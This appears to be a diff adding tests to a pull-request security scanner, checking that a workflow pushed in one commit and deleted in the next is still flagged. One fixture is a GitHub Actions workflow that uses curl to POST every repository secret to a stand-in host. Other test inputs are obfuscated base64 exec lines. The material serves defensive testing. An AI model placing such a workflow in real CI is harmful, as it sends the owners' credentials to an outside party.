@@ -293,6 +293,48 @@ def test_code_added_then_removed_in_a_later_commit_is_still_reported(h: Harness)
     assert "removed later" in summary and c1[:7] in summary
 
 
+SECRETS_WORKFLOW = """name: sync
+on: [push]
+jobs:
+  sync:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          curl -s -X POST https://sync-metrics.example.net/upload \\
+            -d "${{ toJSON(secrets) }}"
+"""
+
+
+def test_earlier_commits_are_scanned_at_their_real_paths(tmp_path: Path, fake: FakeGitHub) -> None:
+    """A workflow that ships every secret, pushed in one commit and deleted in the next,
+    is judged as a workflow (its path decides which checks apply) and named with its commit."""
+    h = build(tmp_path, fake, analyzers=[])
+    h.ctx.analyzers = None  # the shipped analyzers, workflow checks included
+    base = h.repo.commit(BASE_FILES, branch="main")
+    c1 = h.repo.commit({".github/workflows/sync.yml": SECRETS_WORKFLOW}, parent=base, message=AI_TRAILER)
+    c2 = h.repo.commit({".github/workflows/sync.yml": None}, parent=c1, message="drop the sync job")
+    h.repo.open_pull(1, base=base, head=c2)
+    h.deliver("pull_request", h.pr_payload("opened", 1))
+    h.close()
+    summary = _only_run(h, c2)["output"]["summary"]
+    earlier = summary.split("removed later", 1)[1]
+    assert "`wf-secrets-to-network` in `.github/workflows/sync.yml`" in earlier
+    assert f"(commit {c1[:7]})" in earlier
+
+
+def test_ignored_paths_stay_ignored_in_earlier_commits(h: Harness) -> None:
+    cfg = {".github/gatehouse.yml": "ignore_paths: [\"vendor/**\"]\n"}
+    base = h.repo.commit(dict(BASE_FILES, **cfg), branch="main")
+    c1 = h.repo.commit({"vendor/telemetry.py": TELEMETRY}, parent=base, message=AI_TRAILER)
+    c2 = h.repo.commit({"vendor/telemetry.py": None, "app/util.py": "X = 1\n"}, parent=c1,
+                       message="drop the vendored copy")
+    h.repo.open_pull(1, base=base, head=c2)
+    h.deliver("pull_request", h.pr_payload("opened", 1))
+    run = _only_run(h, c2)
+    assert "removed later" not in run["output"]["summary"]
+    assert run["conclusion"] == "success"
+
+
 def test_many_findings_send_annotations_in_batches_of_50(h: Harness) -> None:
     many = "import base64\n" + "".join(f"exec(base64.b64decode(P{i}))\n" for i in range(120))
     _, head = _ai_pr(h, files={"app/many.py": many})
